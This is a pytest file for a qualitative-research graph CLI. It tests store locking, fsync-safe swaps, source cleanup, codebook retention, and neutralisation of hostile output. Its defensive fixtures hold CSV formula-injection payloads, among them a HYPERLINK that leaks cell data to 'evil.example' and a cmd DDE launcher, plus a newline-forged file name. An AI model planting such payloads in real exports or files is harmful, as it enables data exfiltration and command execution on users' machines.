"""Issue 13, "more found the same way": loads that never race, durable swaps, sources that leave
the disk, the stored codebook kept, hostile names and cells in every output."""

from __future__ import annotations

import csv
import io
import os
import threading

import pytest
from click.testing import CliRunner

from challenge_graph.cli import cli
from challenge_graph.graph.errors import StoreBusyError
from challenge_graph.pipeline.ingest import ingest
from challenge_graph.store.ladybug_store import LadybugStore
from tests.conftest import EXAMPLES, INTERVIEW_35, LEADER_4, one_study_copy


def invoke(*args):
    return CliRunner().invoke(cli, [str(a) for a in args])


# --- the write lock --------------------------------------------------------------------------
def test_a_second_thread_of_the_same_store_gets_store_busy(tmp_path):
    """The dashboard shares one store object between sessions: a load from a second thread
    while the first holds the lock is refused, never run alongside."""
    store = LadybugStore(tmp_path / "db")
    holding, release = threading.Event(), threading.Event()

    def hold():
        with store.writing():
            holding.set()
            release.wait(30)

    holder = threading.Thread(target=hold)
    holder.start()
    try:
        assert holding.wait(30)
        with pytest.raises(StoreBusyError, match=f"store is busy: another load \\(PID {os.getpid()}\\)"):
            ingest(store, [INTERVIEW_35])
    finally:
        release.set()
        holder.join()
    ingest(store, [INTERVIEW_35])  # free again
    assert store.run("MATCH (i:Interview) RETURN count(i)").rows == [(1,)]
    store.close()


def test_concurrent_loads_through_one_store_never_break_each_other(tmp_path):
    store = LadybugStore(tmp_path / "db")
    errors, barrier = [], threading.Barrier(2)

    def load(path):
        barrier.wait()
        try:
            ingest(store, [path])
        except StoreBusyError:
            pass
        except Exception as e:  # noqa: BLE001 - anything else is the race this test looks for
            errors.append(e)

    threads = [threading.Thread(target=load, args=(p,)) for p in (INTERVIEW_35, LEADER_4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    titles = {t for (t,) in store.run("MATCH (i:Interview) RETURN i.title").rows}
    assert titles in ({"Interview 35"}, {"reengineering-leader-4"}, {"Interview 35", "reengineering-leader-4"})
    assert not list((tmp_path / "db").glob("graph.lbug.new*"))
    store.close()


# --- durability and privacy of the folder ----------------------------------------------------
def test_the_new_database_and_its_folder_are_fsynced_around_the_rename(tmp_path, monkeypatch):
    synced, events = [], []
    real_fsync, real_replace = os.fsync, os.replace

    def fsync(fd):
        synced.append(os.readlink(f"/proc/self/fd/{fd}"))
        events.append(("fsync", synced[-1]))
        return real_fsync(fd)

    def replace(src, dst):
        events.append(("replace", str(dst)))
        return real_replace(src, dst)

    monkeypatch.setattr(os, "fsync", fsync)
    monkeypatch.setattr(os, "replace", replace)
    db = (tmp_path / "db").resolve()
    store = LadybugStore(db)
    ingest(store, [INTERVIEW_35])
    store.close()
    swap = events.index(("replace", str(db / "graph.lbug")))
    assert ("fsync", str(db / "graph.lbug.new")) in events[:swap]  # the new file is on disk first
    assert ("fsync", str(db)) in events[swap:]  # then the rename itself
    copies = [s for s in synced if s.startswith(f"{db}/sources/.") and s.endswith(".tmp")]
    assert len(copies) == len(list((db / "sources").iterdir()))  # each copy fsynced before its rename


def test_replaced_and_removed_sources_leave_the_folder(tmp_path):
    from challenge_graph.graph.model import SourceFile

    db = tmp_path / "db"
    store = LadybugStore(db)
    ingest(store, [LEADER_4, INTERVIEW_35])
    study_files = {p.name for p in (db / "sources").iterdir()} - {
        SourceFile("x", f.read_bytes()).sha256 for f in (LEADER_4, INTERVIEW_35)
    }  # the two studies' study.yaml and codebooks, and the store's codebook
    transcript = tmp_path / "t.txt"
    transcript.write_text("Interviewer: Why?\nP3: Because.\n", encoding="utf-8")
    ingest(store, [transcript])
    old = SourceFile("t.txt", transcript.read_bytes()).sha256
    transcript.write_text("Interviewer: Why?\nP3: Because of the loss.\n", encoding="utf-8")
    ingest(store, [transcript])  # the same file again: its new copy replaces the old one
    kept = {p.name for p in (db / "sources").iterdir()}
    assert old not in kept and SourceFile("t.txt", transcript.read_bytes()).sha256 in kept
    ingest(store, [INTERVIEW_35], replace=True)  # LEADER_4, its study and t.txt taken out of the corpus
    cote = [EXAMPLES / "cote-2024" / "study.yaml", EXAMPLES / "cote-2024" / "codebook.yaml", INTERVIEW_35]
    expected = {SourceFile("x", f.read_bytes()).sha256 for f in cote} | {store.codebook().sha256}
    assert expected < study_files | {SourceFile("x", INTERVIEW_35.read_bytes()).sha256}
    assert {p.name for p in (db / "sources").iterdir()} == expected
    store.close()


def test_db_that_is_a_file_is_one_clear_line(tmp_path):
    file = tmp_path / "passwd"
    file.write_text("root:x:0:0\n")
    for args in (
        ["load", EXAMPLES],
        ["query", "top-challenges"],
        ["cypher", "MATCH (n) RETURN n"],
        ["dashboard"],
        ["demo", "--no-dashboard"],
        ["load", EXAMPLES, "--db", file / "inside"],
    ):
        command = [*args] if "--db" in args else [*args, "--db", file]
        result = invoke(*command)
        assert result.exit_code == 1, (args, result.output)
        assert result.output.count("\n") == 1 and result.output.startswith("Error: "), result.output
        assert "Traceback" not in result.output
    assert file.read_text() == "root:x:0:0\n"


def test_replace_without_codebook_keeps_the_stored_codebook(tmp_path):
    from challenge_graph.graph.codebook import default_codebook_path

    book = tmp_path / "team-book.yaml"
    book.write_text(
        default_codebook_path()
        .read_text(encoding="utf-8")
        .replace("Loss function is hard to implement and test", "Loss is hard (team label)"),
        encoding="utf-8",
    )
    db = tmp_path / "db"
    corpus = one_study_copy(tmp_path / "examples")  # --codebook is the codebook of files in no study folder
    assert invoke("load", corpus, "--codebook", book, "--db", db).exit_code == 0
    assert invoke("load", corpus, "--replace", "--db", db).exit_code == 0
    store = LadybugStore(db)
    assert store.codebook().name == "team-book.yaml" and store.codebook().data == book.read_bytes()
    assert store.run("MATCH (c:Challenge {code: 'Loss-complexity'}) RETURN c.name").rows == [
        ("Loss is hard (team label)",)
    ]
    store.close()


# --- names and cells in outputs --------------------------------------------------------------
def test_file_names_with_newlines_cannot_forge_report_lines(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "ok.txt").write_text("Interviewer: Why?\nP3: Because.\n", encoding="utf-8")
    (folder / "evil.txt\nRejected 0:\n  nothing.txt").write_text("", encoding="utf-8")  # empty: rejected
    result = invoke("load", folder, "--db", tmp_path / "db")
    assert result.exit_code == 2
    lines = result.stderr.splitlines()
    assert "Rejected 0:" not in lines and "  nothing.txt" not in [line.split(":")[0] for line in lines]
    assert any("evil.txt\\nRejected 0:\\n  nothing.txt: empty file" in line for line in lines)
    check = invoke("check", folder)
    assert "Rejected 0:" not in check.stderr.splitlines()


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)", "+1+2", "-2+3", "=cmd|' /C calc'!A0"]


@pytest.fixture(scope="module")
def formula_store(tmp_path_factory):
    folder = tmp_path_factory.mktemp("formulas")
    table = folder / "codings.csv"
    with table.open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["interview", "speaker", "text", "code"])
        for i, cell in enumerate(FORMULAS):
            writer.writerow(["=Interview 1" if i == 0 else "Interview 1", "P1", f"{cell} turn {i}", cell])
    db = folder / "db"
    result = invoke("load", table, "--db", db)
    assert result.exit_code == 0, result.output
    return db


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_neutralised(text: str) -> None:
    cells = _cells(text)
    assert any(cell.startswith("'=") for cell in cells) and any(cell.startswith("'@") for cell in cells)
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []


def test_csv_cells_never_start_a_formula_on_any_output(formula_store, tmp_path):
    cypher = invoke(
        "cypher", "MATCH (c:Challenge) RETURN c.code AS code, c.name AS name", "--format", "csv", "--db", formula_store
    )
    _assert_neutralised(cypher.stdout)
    query = invoke("query", "top-challenges", "--format", "csv", "--db", formula_store)
    _assert_neutralised(query.stdout)
    edges = tmp_path / "edges.csv"
    assert invoke("export", tmp_path / "tables", "--participant", "P1", "--db", formula_store).exit_code == 0
    _assert_neutralised(
        (tmp_path / "tables" / "nodes.csv").read_text(encoding="utf-8")
        + (tmp_path / "tables" / "edges.csv").read_text(encoding="utf-8")
    )
    assert invoke("export", edges, "--participant", "P1", "--db", formula_store).exit_code == 0
    _assert_neutralised(edges.read_text(encoding="utf-8"))
    matrix = tmp_path / "matrix.csv"
    assert invoke("matrix", "participant-challenge", "--out", matrix, "--db", formula_store).exit_code == 0
    _assert_neutralised(matrix.read_text(encoding="utf-8"))


def test_dashboard_csv_downloads_are_neutralised():
    import pandas as pd

    from challenge_graph.dashboard.data import csv_download

    frame = pd.DataFrame({"code": FORMULAS, "n": [-1, 2, 3, 4, 5]})
    rows = list(csv.reader(io.StringIO(csv_download(frame))))
    assert [row[0] for row in rows[1:]] == ["'" + f for f in FORMULAS]
    assert [row[1] for row in rows[1:]] == ["-1", "2", "3", "4", "5"]  # numbers stay numbers


def test_a_load_through_the_shared_store_never_closes_a_running_read(tmp_path):
    """The dashboard's Load page loads through the store its other sessions read from: the swap
    re-opens the shared connection only between their queries."""
    from challenge_graph.queries.runner import corpus_summary

    store = LadybugStore(tmp_path / "db")
    ingest(store, [INTERVIEW_35])
    errors, reads, stop = [], [0], threading.Event()

    def read():
        while not stop.is_set():
            try:
                corpus_summary(store)
                reads[0] += 1
            except Exception as e:  # noqa: BLE001 - any failure is what this test looks for
                errors.append(e)

    reader = threading.Thread(target=read)
    reader.start()
    try:
        for paths in ([LEADER_4], [INTERVIEW_35], [EXAMPLES]):
            ingest(store, paths)
    finally:
        stop.set()
        reader.join()
    assert errors == [] and reads[0] > 0
    assert corpus_summary(store)["interviews"] == 4
    store.close()
